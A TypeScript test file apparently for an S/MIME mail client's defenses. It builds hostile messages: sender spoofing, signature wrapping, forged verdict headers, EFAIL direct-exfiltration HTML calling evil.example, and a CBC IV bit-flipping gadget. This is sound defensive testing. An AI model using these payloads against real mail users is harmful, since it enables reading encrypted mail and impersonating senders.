// SPDX-License-Identifier: Apache-2.0
import { messageAround } from '../outside-mail.ts';
import {
  anna,
  bo,
  detachedEntity,
  encryptedEntity,
  HTML,
  mail,
  opaqueEntity,
  TEXT,
  type ReceivedCase,
} from './case.ts';

const kim = ({ issued }: Parameters<typeof bo>[0]) => issued.kim;
const EVIL = 'evil.example';
const mixed = (...parts: string[]) =>
  'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="around"\r\n\r\n' +
  `${parts.map((part) => `--around\r\n${part}\r\n`).join('')}--around--\r\n`;
/** With a Message-ID of its own, as every mail has. */
const another = (message: string) => message.replace('Message-ID: <1@', 'Message-ID: <2@');
const OPENING = 'Content-Type: text/html\r\n\r\n<img src="http://evil.example/?';
const CLOSING = 'Content-Type: text/html\r\n\r\n">';
const inner = (from: string, parameter = 'hp="cipher"') =>
  `From: ${from}\r\nSubject: Inside\r\n${TEXT.replace('charset', `${parameter}; charset`)}`;
/** A message as it stands, with this From. */
const withFrom =
  (make: ReturnType<typeof mail>, field: string): ReturnType<typeof mail> =>
  async (cast) =>
    (await make(cast)).replace(/^From: .*$/m, field);
const others = { verdict: 'valid-but', reservations: ['from-not-signer', 'no-single-from'] } as const;

/** Who says he is another: families of https://github.com/RUB-NDS/Johnny-You-Are-Fired. */
const SPOOFED: readonly ReceivedCase[] = [
  {
    title: 'another person signed',
    shape: 'standard',
    make: mail(detachedEntity(TEXT, kim)),
    verdict: 'valid-but',
    reservations: ['from-not-signer'],
  },
  {
    title: 'another person signed, and is the Sender',
    shape: 'outlook',
    make: mail(detachedEntity(TEXT, kim), { fields: { more: 'Sender: kim@citizen.example\r\n' } }),
    verdict: 'valid-but',
    reservations: ['sender-is-signer'],
  },
  {
    title: 'From names the victim and the signer',
    shape: 'by hand',
    make: withFrom(mail(detachedEntity(TEXT, kim)), 'From: bo@citizen.example, kim@citizen.example'),
    from: 'bo@citizen.example',
    ...others,
  },
  {
    title: 'two From fields, the signer first',
    shape: 'by hand',
    make: withFrom(mail(detachedEntity(TEXT, kim)), 'From: kim@citizen.example\r\nFrom: bo@citizen.example'),
    from: 'kim@citizen.example',
    ...others,
  },
  {
    title: 'the address of the victim as the name of the signer',
    shape: 'by hand',
    make: withFrom(mail(detachedEntity(TEXT, kim)), 'From: "bo@citizen.example" <kim@citizen.example>'),
    from: 'kim@citizen.example',
    verdict: 'valid',
  },
  {
    title: 'the victim in a group in From',
    shape: 'by hand',
    make: withFrom(mail(detachedEntity(TEXT, kim)), 'From: Team: bo@citizen.example;'),
    from: 'bo@citizen.example',
    ...others,
  },
  {
    title: 'the victim in a comment behind the signer',
    shape: 'by hand',
    make: withFrom(mail(detachedEntity(TEXT, kim)), 'From: kim@citizen.example (bo@citizen.example)'),
    from: 'kim@citizen.example',
    verdict: 'valid',
  },
  {
    title: 'no From',
    shape: 'by hand',
    make: withFrom(mail(detachedEntity(TEXT, kim)), 'X-From: bo@citizen.example'),
    from: '',
    ...others,
  },
  {
    title: 'a protected From of the victim that nobody signed',
    shape: 'by hand',
    make: mail(encryptedEntity(inner('bo@citizen.example')), { fields: { from: `x@${EVIL}` } }),
    verdict: 'not-signed',
    reservations: ['unauthenticated-encryption', 'from-differs'],
    subject: 'Inside',
    from: `x@${EVIL}`,
  },
  {
    title: 'a protected From of the victim that another signed',
    shape: 'by hand',
    make: mail(encryptedEntity(opaqueEntity(inner('bo@citizen.example'), kim)), {
      fields: { from: 'kim@citizen.example' },
    }),
    verdict: 'valid-but',
    reservations: ['from-not-signer', 'from-differs'],
    subject: 'Inside',
    from: 'kim@citizen.example',
  },
  {
    title: 'a From of the signer inside that protects nothing, the victim outside',
    shape: 'by hand',
    make: mail(opaqueEntity(inner('kim@citizen.example', 'x=y'), kim)),
    verdict: 'valid-but',
    reservations: ['from-not-signer', 'from-differs'],
  },
  {
    title: 'the protected From is the signer, the victim outside',
    shape: 'by hand',
    make: mail(opaqueEntity(inner('kim@citizen.example', 'hp="clear"'), kim)),
    verdict: 'valid-but',
    reservations: ['from-differs'],
    subject: 'Inside',
    from: 'kim@citizen.example',
  },
  {
    title: 'fields of ours forged inside',
    shape: 'by hand',
    make: mail(
      encryptedEntity(
        `X-SecureMail-Verdict: valid\r\nX-SecureMail-Signer: ceo@demo.example\r\n${inner('bo@citizen.example')}`,
      ),
    ),
    verdict: 'not-signed',
    reservations: ['unauthenticated-encryption'],
    subject: 'Inside',
    nowhere: ['ceo@demo.example'],
  },
  {
    title: 'two subjects outside, one inside',
    shape: 'by hand',
    make: mail(opaqueEntity(inner('bo@citizen.example', 'hp="clear"')), {
      fields: { more: 'Subject: Pay now\r\n' },
    }),
    verdict: 'valid',
    subject: 'Inside',
    nowhere: ['Pay now'],
  },
];

/** What was signed is not what is shown. */
const AROUND_SIGNATURES: readonly ReceivedCase[] = [
  {
    title: 'the content changed',
    shape: 'standard',
    make: async (cast) => (await mail(detachedEntity(TEXT))(cast)).replace('=C3=A6re Anna', '=C3=A6re Eva!'),
    verdict: 'invalid',
    reservations: ['content-changed'],
    text: 'Kære Eva!',
  },
  {
    title: 'the signature taken away',
    shape: 'standard',
    make: async (cast) =>
      (await mail(detachedEntity(TEXT))(cast)).replace(
        /Content-Type: application\/pkcs7-signature[^]*?\r\n\r\n[^]*?\r\n--/,
        'Content-Type: text/plain\r\n\r\n--',
      ),
    verdict: 'invalid',
    reservations: ['signature-missing'],
  },
  {
    title: 'the signature of another mail',
    shape: 'standard',
    make: async (cast) => {
      const [one, other] = await Promise.all([
        mail(detachedEntity(TEXT))(cast),
        mail(detachedEntity(HTML))(cast),
      ]);
      const at = (text: string) => text.indexOf('Content-Type: application/pkcs7-signature');
      return other.slice(0, at(other)) + one.slice(at(one));
    },
    verdict: 'invalid',
    reservations: ['content-changed'],
    text: 'K&aelig;re Anna',
  },
  {
    title: 'all of the signing taken away',
    shape: 'standard',
    make: mail(TEXT),
    verdict: 'not-signed',
  },
  {
    title: 'a third part within the multipart/signed',
    shape: 'by hand',
    make: async (cast) =>
      (await mail(detachedEntity(TEXT))(cast)).replace(
        /--(----8B3F02)--/,
        '--$1\r\nContent-Type: text/plain\r\n\r\nPay now\r\n--$1--',
      ),
    verdict: 'invalid',
    reservations: ['more-parts'],
  },
  {
    title: 'a text behind the multipart/signed, where no program shows it',
    shape: 'by hand',
    make: async (cast) => `${await mail(detachedEntity(TEXT))(cast)}\r\nPay now\r\n`,
    verdict: 'valid',
  },
  {
    title: 'a footer of a list around it',
    shape: 'by hand',
    make: mail(async (cast) =>
      mixed(await detachedEntity(TEXT)(cast), 'Content-Type: text/plain\r\n\r\n___\r\nThe list\r\n'),
    ),
    verdict: 'not-signed',
    reservations: ['not-at-the-top'],
  },
  {
    title: 'a genuine signed part behind a forged one',
    shape: 'by hand',
    make: mail(async (cast) =>
      mixed('Content-Type: text/plain\r\n\r\nPay now\r\n', await detachedEntity(TEXT)(cast)),
    ),
    verdict: 'not-signed',
    reservations: ['not-at-the-top'],
    text: 'Pay now',
  },
  {
    title: 'a signed mail as an attachment of one that is not',
    shape: 'by hand',
    make: mail(async (cast) =>
      mixed(
        'Content-Type: text/plain\r\n\r\nPay now\r\n',
        `Content-Type: message/rfc822\r\n\r\n${another(await mail(detachedEntity(TEXT))(cast))}`,
      ),
    ),
    verdict: 'not-signed',
    text: 'Pay now',
  },
  {
    title: 'two Content-Types',
    shape: 'by hand',
    make: async (cast) =>
      (await mail(detachedEntity(TEXT))(cast)).replace(
        'MIME-Version',
        'Content-Type: text/plain\r\nMIME-Version',
      ),
    verdict: 'not-signed',
    reservations: ['not-opened'],
    unopened: 'ambiguous-header',
    text: null,
  },
  {
    title: 'two boundaries',
    shape: 'by hand',
    make: async (cast) =>
      (await mail(detachedEntity(TEXT))(cast)).replace('boundary=', 'boundary="other"; boundary='),
    verdict: 'not-signed',
    reservations: ['not-opened'],
    unopened: 'malformed-multipart',
    text: null,
  },
  {
    title: 'another protocol than S/MIME',
    shape: 'by hand',
    make: mail(detachedEntity(TEXT, bo, { change: { protocol: 'application/pgp-signature' } })),
    verdict: 'not-signed',
  },
  {
    title: 'the signature around a ciphertext for somebody else',
    shape: 'by hand',
    make: mail(async (cast) => await detachedEntity(await encryptedEntity(TEXT)(cast), kim)(cast), {
      fields: { from: 'kim@citizen.example' },
    }),
    verdict: 'valid-but',
    reservations: ['only-ciphertext-signed', 'unauthenticated-encryption'],
    from: 'kim@citizen.example',
  },
  {
    title: 'a good signature around a bad one',
    shape: 'by hand',
    make: mail(async (cast) => {
      const bad = (await detachedEntity(TEXT)(cast)).replace('Anna', 'Eva!');
      return await opaqueEntity(bad, kim)(cast);
    }),
    verdict: 'invalid',
    reservations: ['content-changed'],
    text: 'Kære Eva!',
  },
];

const HTML_OF_BO = 'Content-Type: text/html; charset=utf-8\r\n\r\n<p>K&aelig;re Anna</p>\r\n';

/** Somebody without a key can repeat blocks of the ciphertext, so that a secret stands in an address that is fetched. */
const BESIDE_A_SIGNATURE: readonly (Pick<Partial<ReceivedCase>, 'verdict' | 'reservations' | 'nowhere'> & {
  title: string;
  beside: (entity: string) => string;
})[] = [
  {
    title: 'in a third part',
    beside: (entity) => entity.replace(/--(----8B3F02)--/, `--$1\r\n${HTML}\r\n--$1--`),
    verdict: 'invalid',
    reservations: ['more-parts'],
  },
  {
    title: 'in a part that is not closed',
    beside: (entity) => entity.replace(/--(----8B3F02)--/, `--$1\r\n${HTML}`),
    verdict: 'invalid',
    reservations: ['more-parts'],
  },
  { title: 'before the first part', beside: (entity) => entity.replace('\r\n\r\n', `\r\n\r\n${HTML}`) },
  { title: 'behind the last part', beside: (entity) => `${entity}\r\n${HTML}` },
  {
    title: 'behind the base64 of the signature',
    beside: (entity) => entity.replace(/\r\n(------8B3F02--)/, `\r\n\r\n${HTML}$1`),
    // It is what is saved, and not shown.
    nowhere: [],
  },
];

/** EFAIL (https://efail.de): what sends the text away when it is shown. */
const EFAIL: readonly ReceivedCase[] = [
  {
    title: 'direct exfiltration: the encrypted part between parts of HTML',
    shape: 'by hand',
    make: mail(async (cast) => mixed(OPENING, await encryptedEntity(TEXT)(cast), CLOSING)),
    verdict: 'not-signed',
    reservations: ['not-at-the-top'],
    text: null,
  },
  {
    title: 'direct exfiltration, signed around it by the attacker',
    shape: 'by hand',
    make: mail(
      async (cast) =>
        await detachedEntity(mixed(OPENING, await encryptedEntity(TEXT)(cast), CLOSING), kim)(cast),
      { fields: { from: 'kim@citizen.example' } },
    ),
    verdict: 'valid-but',
    reservations: ['not-at-the-top'],
    from: 'kim@citizen.example',
    text: null,
  },
  {
    title: 'an encrypted mail attached to another',
    shape: 'by hand',
    make: mail(async (cast) =>
      mixed(
        'Content-Type: text/plain\r\n\r\nSee below\r\n',
        `Content-Type: message/rfc822\r\n\r\n${another(await mail(encryptedEntity(TEXT))(cast))}`,
      ),
    ),
    verdict: 'not-signed',
    text: null,
  },
  {
    title: 'blocks of the ciphertext changed into HTML',
    shape: 'by hand',
    make: async (cast) => {
      const plain = `Content-Type: text/plain \r\n\r\n${' '.repeat(64)}K=C3=A6re Anna\r\n`;
      const cms = await cast.cms.encrypt(plain, [cast.issued.anna]);
      const gadget = withGadget(cms, plain, 'Content-type: te', 'Content-Type:te');
      return messageAround(
        `Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n${gadget.toString('base64').replace(/.{76}/g, '$&\r\n')}\r\n`,
      );
    },
    verdict: 'not-signed',
    reservations: ['unauthenticated-encryption'],
    text: 'K=C3=A6re Anna',
  },
  {
    title: 'HTML that was put in, encrypted and not signed',
    shape: 'by hand',
    make: mail(encryptedEntity(HTML)),
    verdict: 'not-signed',
    reservations: ['unauthenticated-encryption'],
    neutralised: true,
    nowhere: [EVIL],
  },
  {
    title: 'HTML that was put in, with a signature inside that does not hold',
    shape: 'by hand',
    make: mail(
      encryptedEntity(async (cast) => (await detachedEntity(HTML)(cast)).replace('evil.', 'more.evil.')),
    ),
    verdict: 'invalid',
    reservations: ['content-changed', 'unauthenticated-encryption'],
    neutralised: true,
    nowhere: [EVIL],
  },
  ...BESIDE_A_SIGNATURE.map(
    ({ title, beside, verdict = 'valid-but', reservations = [], nowhere = [EVIL] }): ReceivedCase => ({
      title: `HTML beside what was signed, encrypted with it: ${title}`,
      shape: 'by hand',
      make: mail(encryptedEntity(async (cast) => beside(await detachedEntity(HTML_OF_BO)(cast)))),
      verdict,
      reservations: [...reservations, 'unauthenticated-encryption'],
      neutralised: true,
      nowhere,
    }),
  ),
  {
    title: 'HTML that says first that it is text',
    shape: 'by hand',
    make: mail(encryptedEntity(`Content-Type: text/plain\r\n${HTML}`)),
    verdict: 'not-signed',
    reservations: ['unauthenticated-encryption'],
    neutralised: true,
    text: null,
    nowhere: ['\r\nContent-Type: text/html'],
  },
  {
    title: 'a script, a style and a link, encrypted and not signed',
    shape: 'by hand',
    make: mail(
      encryptedEntity(
        'Content-Type: text/html\r\n\r\n<style>@import "http://evil.example/a"</style><script>x="http://evil.example/"</script><a href="http://evil.example/">K&aelig;re Anna</a><form action="http://evil.example/"><input></form>\r\n',
      ),
    ),
    verdict: 'not-signed',
    reservations: ['unauthenticated-encryption'],
    neutralised: true,
    nowhere: [EVIL],
  },
  {
    title: 'for somebody else',
    shape: 'standard',
    make: mail(encryptedEntity(opaqueEntity(TEXT), ({ issued }) => [issued.lapsed])),
    verdict: 'not-signed',
    reservations: ['not-opened'],
    unopened: 'no-recipient',
    text: null,
  },
  {
    title: 'for Anna, sent to another',
    shape: 'by hand',
    make: mail(encryptedEntity(opaqueEntity(TEXT))),
    given: { to: 'ulla@demo.example' },
    verdict: 'not-signed',
    reservations: ['not-opened'],
    unopened: 'no-recipient',
    text: null,
  },
  {
    title: 'cut off within the ciphertext',
    shape: 'by hand',
    make: async (cast) => {
      const whole = await mail(encryptedEntity(TEXT.repeat(40), anna))(cast);
      return `${whole.slice(0, -400)}\r\n`;
    },
    verdict: 'not-signed',
    reservations: ['not-opened'],
    unopened: 'malformed-cms',
    text: null,
  },
];

/** What programs take for HTML, or for a message with HTML in it, though it is not called that. */
const NOT_CALLED_HTML: readonly ReceivedCase[] = (
  [
    [
      'a digest',
      `Content-Type: multipart/digest; boundary=d\r\n\r\n--d\r\n\r\nSubject: x\r\n${HTML}--d--\r\n`,
    ],
    ['a type with a comma', HTML.replace('; charset=utf-8', ', x')],
    ['a type with a word behind it', HTML.replace('; charset=utf-8', ' x')],
    ['an article', `Content-Type: message/news\r\n\r\nSubject: x\r\n${HTML}`],
    ['a message of UTF-8', mixed(`Content-Type: message/global\r\n\r\nSubject: x\r\n${HTML}`)],
    [
      'a message in base64',
      `Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(`Subject: x\r\n${HTML}`).toString('base64')}\r\n`,
    ],
    ['a TNEF', 'Content-Type: application/ms-tnef; name=winmail.dat\r\n\r\nx\r\n'],
    ['AMP', HTML.replace('text/html', 'text/x-amp-html')],
    ['an appointment', HTML.replace('text/html', 'text/calendar')],
  ] as const
).map(([title, entity]) => ({
  title: `HTML as ${title}, encrypted and not signed`,
  shape: 'by hand',
  make: mail(encryptedEntity(entity)),
  verdict: 'not-signed',
  reservations: ['unauthenticated-encryption'],
  neutralised: true,
  // In each it is told before all else.
  text: 'Secure@Mail: nobody can tell',
}));

/** The first block of the plaintext turned into another by way of the IV: no key is needed for it. */
function withGadget(cms: Buffer, plain: string, wanted: string, known: string): Buffer {
  // aes-256-CBC (2.16.840.1.101.3.4.1.42), and behind it the IV as an OCTET STRING.
  const oid = Buffer.from('060960864801650304012a0410', 'hex');
  const at = cms.indexOf(oid) + oid.length;
  if (at < oid.length || !plain.startsWith(known.slice(0, 12)))
    throw new Error('no CBC, or not of this text');
  const changed = Buffer.from(cms);
  for (const [index, letter] of [...Buffer.from(wanted)].entries())
    changed[at + index] = (cms[at + index] ?? 0) ^ letter ^ plain.charCodeAt(index);
  return changed;
}

export const HOSTILE: readonly ReceivedCase[] = [
  ...SPOOFED,
  ...AROUND_SIGNATURES,
  ...EFAIL,
  ...NOT_CALLED_HTML,
];
